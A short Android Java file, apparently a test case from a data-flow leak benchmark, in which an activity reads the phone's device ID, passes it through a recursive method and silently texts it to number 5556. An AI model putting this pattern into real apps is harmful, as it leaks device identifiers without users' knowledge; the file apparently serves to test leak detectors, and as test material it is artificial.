package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Through a method that calls itself. */
public class Recursive extends Case {
    static String down(String s, int n) { return n == 0 ? s : down(s + ".", n - 1); }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        SmsManager.getDefault().sendTextMessage("5556", null, down(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), 3), null, null);
    }
}
